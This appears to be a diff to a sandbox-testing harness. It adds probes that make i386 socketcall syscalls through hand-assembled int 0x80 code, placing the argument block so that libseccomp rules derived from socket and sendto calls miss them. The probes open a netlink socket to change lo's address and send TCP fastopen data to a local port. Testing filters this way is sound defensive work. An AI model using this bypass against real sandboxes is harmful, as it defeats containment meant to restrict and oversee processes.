@@ -34,6 +34,7 @@ import fcntl
 import hashlib
 import http.server
 import json
+import mmap
 import os
 import select
 import signal
@@ -77,6 +78,51 @@ def _libc_call(fn, *args) -> int:
         e = ctypes.get_errno()
         raise OSError(e, os.strerror(e))
     return r
+
+
+# -- the i386 ABI from this 64-bit process: `int 0x80` ------------------------------------
+
+# int80(nr, a0, a1, a2, a3, a4) -> eax: the i386 registers ebx, ecx, edx, esi, edi from the
+# x86-64 argument registers (rsi, rdx, rcx, r8, r9), ebp 0
+_INT80 = bytes([0x53, 0x55,                     # push rbx; push rbp
+                0x89, 0xF8, 0x89, 0xF3,         # mov eax, edi; mov ebx, esi
+                0x49, 0x89, 0xCB, 0x89, 0xD1,   # mov r11, rcx; mov ecx, edx
+                0x44, 0x89, 0xDA,               # mov edx, r11d
+                0x44, 0x89, 0xC6, 0x44, 0x89, 0xCF,   # mov esi, r8d; mov edi, r9d
+                0x31, 0xED, 0xCD, 0x80,         # xor ebp, ebp; int 0x80
+                0x5D, 0x5B, 0xC3])              # pop rbp; pop rbx; ret
+I386_SOCKETCALL = 102
+SYS_SOCKET, SYS_SENDTO = 1, 11
+# socketcall's argument block here: the pointer & 0xfff7f7ff == 1, above mmap_min_addr
+SOCKETCALL_BLOCK = 0x80001
+MAP_FIXED_NOREPLACE = 0x100000
+
+
+def _i386(nr: int, *args: int) -> int:
+    """An i386 syscall through int 0x80 (the kernel's IA32 emulation); OSError on -errno."""
+    if os.uname().machine != "x86_64":
+        raise Prep("the i386 ABI is x86_64's companion")
+    code = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    code.write(_INT80)
+    fn = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_uint] * 6)(
+        ctypes.addressof(ctypes.c_char.from_buffer(code)))
+    r = fn(nr, *(list(args) + [0] * (5 - len(args))))
+    if r < 0:
+        raise OSError(-r, f"i386 syscall {nr}: {os.strerror(-r)}")
+    return r
+
+
+def _low_block(at: int) -> int:
+    """A page mapped at ``at`` (page-aligned down) below 4 GiB, for i386 pointers."""
+    libc.mmap.restype = ctypes.c_void_p
+    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
+                          ctypes.c_int, ctypes.c_long]
+    page = at & ~(mmap.PAGESIZE - 1)
+    got = libc.mmap(page, mmap.PAGESIZE, mmap.PROT_READ | mmap.PROT_WRITE,
+                    mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0)
+    if got != page:
+        raise Prep(f"could not map a page at {page:#x}")
+    return at
 
 
 # -- the daemon (outside every sandbox) ------------------------------------------------------
@@ -401,6 +447,42 @@ def p_personality_aslr(c: Ctx) -> str:
     return "personality(ADDR_NO_RANDOMIZE), a persona never used: ASLR off for its children"
 
 
+def p_i386_socketcall_netlink(c: Ctx) -> str:
+    """socketcall(SYS_SOCKET) through int 0x80, its argument block placed where libseccomp's
+    rules derived from socket(AF_INET, SOCK_STREAM) look (they compare socketcall's
+    registers, not the arguments in memory): an rtnetlink socket, then plain write/read."""
+    block = _low_block(SOCKETCALL_BLOCK)
+    ctypes.memmove(block, struct.pack("III", socket.AF_NETLINK, socket.SOCK_RAW,
+                                      socket.NETLINK_ROUTE), 12)
+    fd = _i386(I386_SOCKETCALL, SYS_SOCKET, block, 0)
+    index = 1                       # lo: a network namespace's first device
+    os.write(fd, _addr_msg(20, 1, index))           # RTM_NEWADDR
+    err = -struct.unpack_from("i", os.read(fd, 4096), 16)[0]
+    if err:
+        raise OSError(err, f"RTM_NEWADDR: {os.strerror(err)}")
+    os.write(fd, _addr_msg(21, 2, index))           # RTM_DELADDR: undo
+    os.read(fd, 4096)
+    return (f"socketcall(SYS_SOCKET) made an AF_NETLINK socket and added {LO_PROBE_ADDR}/32 "
+            "to lo (and removed it)")
+
+
+def p_i386_socketcall_fastopen(c: Ctx) -> str:
+    """socketcall(SYS_SENDTO) with MSG_FASTOPEN in its argument block and 0 in esi, where the
+    derived rule looks for the flags, to a TCP port never connected to."""
+    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+    block = _low_block(SOCKETCALL_BLOCK)
+    payload, addr = block + 64, block + 128
+    ctypes.memmove(payload, b"fastopen-i386", 13)
+    sa = struct.pack("=H", socket.AF_INET) + struct.pack(
+        "!H4s8x", c.ports["echo"], socket.inet_aton("127.0.0.1"))
+    ctypes.memmove(addr, sa, len(sa))
+    ctypes.memmove(block, struct.pack("IIIIII", s.fileno(), payload, 13, MSG_FASTOPEN,
+                                      addr, len(sa)), 24)
+    _i386(I386_SOCKETCALL, SYS_SENDTO, block, 0, 0)
+    return (f"socketcall(SYS_SENDTO, MSG_FASTOPEN) to unrecorded port {c.ports['echo']}: "
+            f"{_recv(s, 'the echo server')!r}")
+
+
 # name -> (function, what it tries)
 PROBES: dict[str, tuple] = {
     "udp-out": (p_udp_out, "socket(AF_INET, SOCK_DGRAM): a UDP datagram out and back"),
@@ -418,6 +500,11 @@ PROBES: dict[str, tuple] = {
     "prctl-option": (p_prctl_option, "prctl(PR_SET_CHILD_SUBREAPER): an option never used"),
     "personality-aslr": (p_personality_aslr, "personality(ADDR_NO_RANDOMIZE): a persona "
                                              "never used"),
+    "i386-socketcall-netlink": (p_i386_socketcall_netlink, "i386 socketcall(SYS_SOCKET, "
+                                "AF_NETLINK) through int 0x80: add an address to lo"),
+    "i386-socketcall-fastopen": (p_i386_socketcall_fastopen, "i386 socketcall(SYS_SENDTO, "
+                                 "MSG_FASTOPEN) through int 0x80 to a TCP port never "
+                                 "connected to"),
 }
 
 
